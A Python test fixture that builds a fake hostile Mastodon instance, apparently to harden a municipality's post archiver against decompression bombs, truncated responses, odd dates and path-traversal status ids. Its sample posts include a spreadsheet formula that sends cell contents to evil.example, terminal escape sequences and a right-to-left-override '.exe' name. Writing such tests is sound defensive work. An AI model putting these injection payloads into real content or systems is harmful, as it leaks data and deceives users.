"""The hostile instance's accounts and statuses: one inventoried account (a *town*) per behaviour.

Every town has two posts of its own, so that the rest of its walk can go on when one part
misbehaves: post A (older, with a reply, always served well) and post B, the *stage*, whose
thread (``statuses/B/context``) is where most behaviours happen. The stage has a reply too,
except in the towns whose night must fail: a thread the platform says has replies that it does
not show is read a second time, and a trickle would cost the deadline and every retry again.
Behaviours that are about the data itself (``numeric``, ``nulltext``, ``year9999``, ``year99``,
``traversal``) add or change statuses instead; ``ordinary`` is the municipality's own account,
with text that is hostile to spreadsheets and terminals. Every town has a token of its own, so
there is something to leak.

Ids are numeric strings that sort by time, as on Mastodon, except where a behaviour says
otherwise. Times are Mastodon's ``YYYY-MM-DDTHH:MM:SS.mmmZ``.
"""

from __future__ import annotations

import base64
import hashlib
import html
import re
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.fakes.mastodon_png import make_png

#: Behaviours captured in the hostile night, in inventory order; ``ordinary`` is the control.
NIGHT = (
    "ordinary",
    "selflink",
    "gzipbomb",
    "deflatebomb",
    "oversized",
    "trickle",
    "truncated",
    "html200",
    "numeric",
    "nulltext",
    "year9999",
    "year99",
    "traversal",
    "redirect",
    "echo502",
    "echogzip",
    "echodeflate",
    "echocomment",
)
#: Behaviours only the focused tests of the HTTP door use (each costs retries a night need not).
FOCUSED = ("tricklekeep", "tricklehead", "disconnect", "echoreason", "corrupt503")
#: Behaviours whose night must fail, and those whose odd data must be archived with the night ok.
BROKEN = ("selflink", "gzipbomb", "deflatebomb", "oversized", "trickle", "truncated", "html200")
ODD_BUT_FINE = tuple(b for b in NIGHT if b not in BROKEN)

FUTURE = "9999-12-31T23:59:59.999Z"
ANCIENT = "0099-01-01T00:00:00.000Z"
ANCIENT_TEXT = "Vattentornet byggdes redan av romarna, enligt min farfars farfar."
#: Status ids that try to leave the API's path (and one from Bluesky, full of ``/`` and ``:``).
TRAVERSAL_POST = "../../admin"
TRAVERSAL_REPLY = "..%2f..%2f"
BLUESKY_POST = "at://did:plc:hostile/app.bsky.feed.post/3kq2thread"
BLUESKY_REPLY = "at://did:plc:citizen/app.bsky.feed.post/3kq2reply"

#: Text that spreadsheets take for formulas (a Swedish phone number starts with +).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")',
    "+46 44 13 50 00 är numret till kundtjänst",
    "-1+1 kronor i taxan, vad betyder det?",
    "@SUMMA(A1:A9) borde räknas om",
)
#: Text that terminals take for commands: clear screen, colours, bell, set title, carriage return.
TERMINAL = "Larm\x1b[2J\x1b[31mRÖTT\x1b[0m\x07 över hela skärmen"
CARRIAGE = "Rad ett\rÖverskriven rad"
RLO_NAME = "Mallory \u202egnp.exe"
OSC_NAME = "Bo\x1b]0;pwned\x07 Berg"
FORMULA_NAME = "=1+2 Eva"
PNG = make_png(4, 3, (0, 90, 200))


def token_for(behaviour: str) -> str:
    """The town's token: standard base64, so it has characters that URLs percent-encode."""
    digest = hashlib.sha256(f"hostile token of {behaviour}".encode()).digest()
    return base64.b64encode(digest[:30]).decode() + "+/="


@dataclass
class Person:
    id: str
    username: str
    display_name: str | None
    domain: str | None = None

    @property
    def acct(self) -> str:
        return f"{self.username}@{self.domain}" if self.domain else self.username


@dataclass
class Media:
    id: str
    name: str
    data: bytes
    description: str


@dataclass
class Status:
    """A status; ``versions`` are (time, HTML content), oldest first, the last is current."""

    id: str
    author: Person
    versions: list[tuple[str, str]]
    parent: Status | None = None
    media: list[Media] = field(default_factory=list)
    replies: list[Status] = field(default_factory=list)

    @property
    def created_at(self) -> str:
        return self.versions[0][0]

    @property
    def edited_at(self) -> str | None:
        return self.versions[-1][0] if len(self.versions) > 1 else None

    @property
    def content(self) -> str:
        return self.versions[-1][1]

    @property
    def text(self) -> str:
        """The current content as a reader sees it (the world's HTML is one element, no markup)."""
        return html.unescape(re.sub(r"<[^>]*>", "", self.content))

    def thread(self) -> list[Status]:
        """Every reply below this status, in thread order (depth first)."""
        out: list[Status] = []
        for reply in self.replies:
            out.append(reply)
            out.extend(reply.thread())
        return out


@dataclass
class Town:
    """One inventoried account, its behaviour, its token and its statuses."""

    behaviour: str
    person: Person
    stage: Status | None = None
    statuses: list[Status] = field(default_factory=list)

    @property
    def handle(self) -> str:
        return self.person.username

    @property
    def account_id(self) -> str:
        """The inventory id."""
        return "ks-mastodon" if self.behaviour == "ordinary" else f"h-{self.behaviour}"

    @property
    def token(self) -> str:
        return token_for(self.behaviour)

    @property
    def token_env(self) -> str:
        return f"HOSTILE_TOKEN_{self.behaviour.upper()}"

    def own(self) -> list[Status]:
        """The town's own statuses (what its listing shows), newest first."""
        return sorted((s for s in self.statuses if s.author is self.person), key=_created, reverse=True)

    def status(self, status_id: str) -> Status | None:
        return next((s for s in self.statuses if s.id == status_id), None)


def _created(status: Status) -> str:
    return status.created_at  # four-digit years: text order is time order


_Say = Callable[..., "Status"]  # World._town's say(author, html, when, parent=None)


def at(day: int, hour: int, minute: int = 0) -> str:
    return f"2026-11-{day:02d}T{hour:02d}:{minute:02d}:00.000Z"


class World:
    """Every town of the hostile instance, by handle; every status by id."""

    def __init__(self) -> None:
        self.towns: dict[str, Town] = {}
        self.anna = Person("109900000000000001", "anna", "Anna Lindqvist")
        self.mats = Person("109900000000000002", "mats", "Mats Ohlsson", "other.example")
        self.rlo = Person("109900000000000003", "mallory", RLO_NAME, "evil.example")
        self.osc = Person("109900000000000004", "bo", OSC_NAME)
        self.formula = Person("109900000000000005", "eva", FORMULA_NAME)
        self.carl = Person("109900000000000006", "carl", "Carl\rCecilia")
        for index, behaviour in enumerate((*NIGHT, *FOCUSED), start=1):
            self._town(index, behaviour)

    def town(self, handle: str) -> Town | None:
        return self.towns.get(handle.split("@", 1)[0])

    def by_behaviour(self, behaviour: str) -> Town:
        return next(t for t in self.towns.values() if t.behaviour == behaviour)

    def owner(self, status_id: str) -> tuple[Town, Status] | None:
        for town in self.towns.values():
            found = town.status(status_id)
            if found is not None:
                return town, found
        return None

    def town_by_account(self, account_id: str) -> Town | None:
        return next((t for t in self.towns.values() if t.person.id == account_id), None)

    # -- building -------------------------------------------------------------------------------

    def _town(self, index: int, behaviour: str) -> None:
        handle = "kristianstad" if behaviour == "ordinary" else behaviour
        name = "Kristianstads kommun" if behaviour == "ordinary" else f"Kommunen ({behaviour})"
        town = Town(behaviour, Person(f"10980000000000{index:04d}", handle, name))
        self.towns[handle] = town
        serial = iter(range(1, 1000))

        def say(author: Person, html: str, when: str, parent: Status | None = None, **kw: object) -> Status:
            status = Status(f"1153{index:02d}{next(serial):012d}", author, [(when, html)], parent, **kw)  # type: ignore[arg-type]
            if parent is not None:
                parent.replies.append(status)
            town.statuses.append(status)
            return status

        me = town.person
        post_a = say(me, f"<p>{name}: veckobrev vecka 46.</p>", at(10, 8))
        say(self.anna, "<p>Tack för veckobrevet!</p>", at(10, 9), post_a)
        stage = say(me, f"<p>{name}: fråga oss om vinterväghållningen.</p>", at(12, 8))
        if behaviour not in BROKEN:  # a broken thread is read once, not again for its replies
            say(self.mats, "<p>När plogas Storgatan?</p>", at(12, 10), stage)
        town.stage = stage
        extra = getattr(self, f"_with_{behaviour}", None)
        if extra is not None:
            extra(town, say, post_a, stage)

    def _with_ordinary(self, town: Town, say: _Say, post_a: Status, stage: Status) -> None:
        post_a.media.append(Media("220000000000000001", "badhus.png", PNG, "Ritning av badhuset"))
        question = say(self.formula, f"<p>{_html(FORMULAS[0])}</p>", at(10, 10), post_a)
        say(town.person, "<p>Välkommen att höra av dig på telefon!</p>", at(10, 11), question)
        say(self.anna, f"<p>{_html(FORMULAS[1])}</p>", at(10, 12), post_a)
        say(self.mats, f"<p>{_html(FORMULAS[2])}</p>", at(10, 13), post_a)
        say(self.anna, f"<p>{_html(FORMULAS[3])}</p>", at(10, 14), post_a)
        say(self.osc, f"<p>{_html(TERMINAL)}</p>", at(10, 15), post_a)
        say(self.carl, f"<pre>{_html(CARRIAGE)}</pre>", at(10, 16), post_a)
        say(self.rlo, "<p>Jag bifogar fakturan.</p>", at(10, 17), post_a)
        edited = say(self.anna, "<p>Simskolan börjar den 12 januari.</p>", at(10, 18), post_a)
        edited.versions.append((at(10, 19), "<p>Simskolan börjar den 19 januari.</p>"))

    def _with_numeric(self, town: Town, say: _Say, post_a: Status, stage: Status) -> None:
        reply = post_a.replies[0]
        reply.versions.append((at(10, 20), "<p>Tack för veckobrevet, det var läsvärt!</p>"))
        say(town.person, "<p>Storgatan plogas i natt.</p>", at(12, 11), stage.replies[0])

    def _with_nulltext(self, town: Town, say: _Say, post_a: Status, stage: Status) -> None:
        post_a.replies[0].versions.append((at(10, 20), "<p>Tack!</p>"))
        say(Person("109900000000000099", "anonym", None), "<p>Hej</p>", at(12, 12), stage)

    def _with_year9999(self, town: Town, say: _Say, post_a: Status, stage: Status) -> None:
        say(self.anna, "<p>Kommentar från framtiden om snöröjningen.</p>", FUTURE, stage)

    def _with_year99(self, town: Town, say: _Say, post_a: Status, stage: Status) -> None:
        say(self.anna, f"<p>{ANCIENT_TEXT}</p>", ANCIENT, stage)

    def _with_traversal(self, town: Town, say: _Say, post_a: Status, stage: Status) -> None:
        post_a.id, stage.id = TRAVERSAL_POST, BLUESKY_POST
        reply_a, reply_b = post_a.replies[0], stage.replies[0]
        reply_a.id, reply_b.id = TRAVERSAL_REPLY, BLUESKY_REPLY
        reply_a.versions.append((at(10, 20), "<p>Tack för veckobrevet! (ändrad)</p>"))
        reply_b.versions[0] = (reply_b.created_at, f"<p>{_html(FORMULAS[0])} När plogas Storgatan?</p>")


def _html(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
